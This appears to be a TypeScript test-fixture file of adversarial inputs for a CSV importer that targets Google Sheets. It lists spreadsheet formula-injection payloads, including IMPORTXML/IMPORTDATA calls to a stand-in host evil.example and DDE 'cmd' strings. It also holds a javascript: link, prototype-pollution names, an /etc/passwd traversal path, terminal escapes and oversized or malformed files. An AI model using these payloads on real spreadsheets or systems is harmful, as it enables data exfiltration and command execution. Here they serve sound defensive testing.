import type {Attack} from '../attack';

/** A text in a cell, or the name of a column of the user's own. */
export interface TextAttack extends Attack {
  readonly text: string;
}

/** A whole file of conversations. */
export interface FileAttack extends Attack {
  readonly bytes: () => string | Uint8Array;
  /** What is told of it instead of opening it; without it, it opens, with as many rows as `rows`. */
  readonly told?: RegExp;
  readonly rows?: number;
}

const AS_TEXT = 'stand there as anything but the text that it is';

const odd: readonly (readonly [name: string, text: string])[] = [
  ['=IMPORTXML', '=IMPORTXML("https://evil.example/?x=7900001", "//a")'],
  ['=IMPORTDATA', '=IMPORTDATA("https://evil.example/7900002")'],
  ['+ and a program', "+cmd|' /C calc 7900003'!A0"],
  ['- and a program', "-cmd|' /C calc 7900004'!A0"],
  ['@SUM', '@SUM(7900005,1)'],
  ['a tab and =', '\t=2*7900006'],
  ['a line end and =', '\n=2*7900007'],
  ['HYPERLINK', '=HYPERLINK("javascript:alert(7900008)","got")'],
  ['the name __proto__', '__proto__'],
  ['the name constructor', 'constructor'],
  ['the name toString', 'toString'],
  ['the name hasOwnProperty', 'hasOwnProperty'],
  ['half a character', 'A\ud800B'],
  ['the other half of one', 'A\udc00C'],
  ['control characters', 'A\u0001\u0008\u001bB'],
  ['what is no character', 'A\ufffe\uffffB'],
  ['a byte order mark', '\ufeffA'],
  ['bidi controls', '\u202egpj.exe\u2066A\u2069'],
  ['zero-width characters', 'A\u200b\u200d\u2060B'],
  ['a thousand combining marks', `A${'\u0301'.repeat(1_000)}`],
  ['quotes', '"A""B"'],
  ['the end of an XML text', ']]></t><f>2*7900009</f>'],
  ['an entity', '&lol9;&#0;'],
  ['as long as a cell may be', `A${'x'.repeat(49_998)}`],
  ['a path', '../../../../etc/passwd'],
  ['an error value', '#REF!'],
  ['a terminal’s command', '\u001b]0;got\u0007'],
];

/** Texts in the cells of one file. */
export const CELL_ATTACKS: readonly TextAttack[] = odd.map(([name, text]) => ({
  name: `${name} in a cell`,
  mustNot: AS_TEXT,
  text,
}));

/** Columns of the user's own in one file. Names lose the white space around them, and a cell holds no line of its own. */
export const HEADER_ATTACKS: readonly TextAttack[] = odd
  .filter(([, text]) => text === text.trim() && text !== '#REF!')
  .map(([name, text]) => ({name: `${name} as a column`, mustNot: AS_TEXT, text}));

const head = 'Date,Customer,Salesperson,Reason,Notes,Stage\n';
const row = (customer: string): string => `2025-09-01,${customer},Ann,Price,Call,Engaging\n`;
const long = 1_000_000;

const noText = /x\.csv holds bytes that are no text\. Save the table/;

type Row = readonly [name: string, bytes: string | (() => string | Uint8Array), toldOrRows: RegExp | number];
const files: readonly Row[] = [
  ['nothing', '', /x\.csv is empty/],
  ['nothing but NUL bytes', () => '\0'.repeat(long), noText],
  ['a NUL byte in a cell', head + row('A\0B'), noText],
  ['a NUL byte in a column’s name', `Da\0te,Customer,Stage\n2025-09-01,A,Won\n`, noText],
  ['NUL bytes in UTF-16', () => Buffer.from(`\ufeff${head}${row('A\0B')}`, 'utf16le'), noText],
  ['the head of UTF-16 and no more', () => Uint8Array.of(0xff, 0xfe), /x\.csv is empty/],
  ['half of a UTF-16 character at its end', () => Buffer.from(`\ufeff${head}A`, 'utf16le').subarray(0, -1), 1],
  ['UTF-32', () => Buffer.from([...`\ufeff${head}`].map(each => `${each}\0`).join(''), 'utf16le'), noText],
  [
    'semicolons, and bytes that are no UTF-8',
    () => Buffer.from((head + row('A\xff')).replaceAll(',', ';'), 'latin1'),
    1,
  ],
  [
    'UTF-8 with a broken character',
    () => Buffer.concat([Buffer.from(head + row('Ää')), Buffer.of(0xc3)]),
    /x\.csv, line 3: here are bytes/,
  ],
  ['control characters', () => head + row('\u0001\u0002'.repeat(100)), noText],
  ['every byte there is', () => Buffer.from(Array.from({length: 255}, (_, at) => at + 1)), noText],
  [
    'a zip archive',
    () => Buffer.concat([Buffer.from('PK\u0003\u0004'), Buffer.from(head)]),
    /x\.csv is a workbook or another zip/,
  ],
  ['a web page', `<html><script>got()</script><table>${head}</table>`, /x\.csv is a web page/],
  [
    'a cell of a million characters',
    () => head + row('x'.repeat(long)),
    /x\.csv, line 2, column "Customer" holds 1000000 characters\. A cell of Google Sheets holds 49999/,
  ],
  [
    'a column’s name of a million characters',
    () => `Date,Customer,Stage,${'x'.repeat(long)}\n2025-09-01,A,Won,1\n`,
    /x\.csv, the name of column 4 holds 1000000 characters/,
  ],
  [
    'a hundred thousand columns',
    () => `Date,Customer,Stage,${Array.from({length: 100_000}, (_, at) => `c${at}`)}\n2025-09-01,A,Won\n`,
    /x\.csv has 100003 columns\. Google Sheets holds 18278/,
  ],
  [
    'a hundred thousand columns of one name',
    () => `Date,Customer,Stage${',c'.repeat(100_000)}\n`,
    /x\.csv has 100003 columns/,
  ],
  [
    'ten thousand columns of one name',
    () => `Date,Customer,Stage${',c'.repeat(10_000)}\n`,
    /the column "c" is there twice/,
  ],
  [
    'eleven million cells',
    () =>
      `Date,Customer,Stage,${Array.from({length: 10_997}, (_, at) => `c${at}`)}\n${'2025-09-01,A,Won\n'.repeat(1_000)}`,
    /x\.csv has more than ten million cells/,
  ],
  [
    'a hundred thousand values in a row',
    () => `Date,Customer,Stage\n2025-09-01,A,Won${',x'.repeat(100_000)}\n`,
    /x\.csv, line 2 has 100003 values for 3 columns/,
  ],
  [
    'a quote that is never closed',
    `${head}2025-09-01,"A,Ann,Price,Call,Engaging\n${row('B')}`,
    /x\.csv, line 2: a quote/,
  ],
  [
    'quotes that close too early, on a thousand lines',
    () => head + '2025-09-01,"A" B",Ann,Price,Call,Engaging\n'.repeat(1_000),
    /x\.csv, line 2: a quoted value goes on/,
  ],
  ['a million quotes', () => '"'.repeat(long), /x\.csv, the name of column 1 holds 499999 characters/],
  ['a million commas', () => ','.repeat(long), /x\.csv is empty/],
  ['columns __proto__ and constructor alone', '__proto__,constructor\n1,2\n', /x\.csv is no table/],
  ['a column without a name', 'Date,,Stage,Customer\n2025-09-01,A,Won,B\n', /x\.csv, line 1: column 2 has no name/],
  ['a separator that is a quote', `sep="\n${head}${row('A')}`, /x\.csv, line 1 names one column only/],
  ['byte order marks', () => `\ufeff\ufeff${head}\ufeff${row('A')}`, 1],
  ['line ends of every kind', 'Date,Customer,Stage\r\n2025-09-01,A,Won\n2025-09-02,B,Won\r2025-09-03,C,Won\r\n\n\r', 3],
  ['a million blank lines', () => `${head}${'\n'.repeat(long)}${row('A')}`, 1],
  [
    'amounts and days beyond every calendar',
    'Date,Customer,Stage,Value\n9999999-99-99,A,Won,1e400\n0000-00-00,B,Won,-1e308\n',
    2,
  ],
];

export const FILE_ATTACKS: readonly FileAttack[] = files.map(([name, bytes, expected]) => ({
  name: `a file of ${name}`,
  mustNot:
    typeof expected === 'number' ? 'open with other rows than its own' : 'open, or be refused without a sentence',
  bytes: typeof bytes === 'string' ? () => bytes : bytes,
  ...(typeof expected === 'number' ? {rows: expected} : {told: expected}),
}));

export const CSV_ATTACKS: readonly Attack[] = [...CELL_ATTACKS, ...HEADER_ATTACKS, ...FILE_ATTACKS];
